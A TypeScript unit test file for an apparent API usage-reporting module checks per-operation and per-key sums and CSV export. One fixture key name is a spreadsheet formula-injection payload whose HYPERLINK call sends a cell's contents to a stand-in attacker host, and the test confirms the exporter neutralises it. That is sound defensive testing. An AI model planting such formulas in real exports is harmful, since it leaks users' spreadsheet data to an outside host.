import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { formatUsageCsv, sumByKey, sumByOperation } from './usage-table.ts';

const count = (
  keyId: string,
  operation: string,
  statusClass: '2xx' | '3xx' | '429' | '5xx',
  requests: number,
) => ({
  accountId: 'acc_1',
  keyId,
  operation,
  statusClass,
  bucketSize: 'day' as const,
  bucketStartMs: Date.parse('2026-11-21T00:00:00Z'),
  requests,
});
const start = '2026-11-21T00:00:00.000Z';

describe('usage rows', () => {
  const counts = [
    count('key_1', 'validateEmail', '2xx', 5),
    count('key_1', 'validateEmail', '3xx', 1),
    count('key_1', 'generatePdf', '2xx', 2),
    count('key_2', 'validateEmail', '429', 4),
  ];

  it('by operation sum the keys, by key the operations', () => {
    assert.deepEqual(sumByOperation(counts), [
      { start, operation: 'validateEmail', status_class: '2xx', count: 6 },
      { start, operation: 'generatePdf', status_class: '2xx', count: 2 },
      { start, operation: 'validateEmail', status_class: '4xx', count: 4 },
    ]);
    assert.deepEqual(sumByKey(counts), [
      { start, key_id: 'key_1', status_class: '2xx', count: 8 },
      { start, key_id: 'key_2', status_class: '4xx', count: 4 },
    ]);
  });

  it('as CSV name the key, and what a name holds is neither a formula nor another column', () => {
    const rows = ['key_1', 'key_2', 'key_3', 'key_4'].map((key_id) => ({
      start,
      key_id,
      status_class: '2xx' as const,
      count: 1,
    }));
    const names = new Map([
      ['key_1', '=HYPERLINK("http://evil.example/"&A1,"x")'],
      ['key_2', 'Shop, "EU"'],
      ['key_3', '@SUM(1)'],
    ]);
    assert.deepEqual(formatUsageCsv(rows, 'key', names).split('\r\n'), [
      'start,key_id,key_name,status_class,count',
      `${start},key_1,"'=HYPERLINK(""http://evil.example/""&A1,""x"")",2xx,1`,
      `${start},key_2,"Shop, ""EU""",2xx,1`,
      `${start},key_3,'@SUM(1),2xx,1`,
      `${start},key_4,,2xx,1`,
      '',
    ]);
  });
});
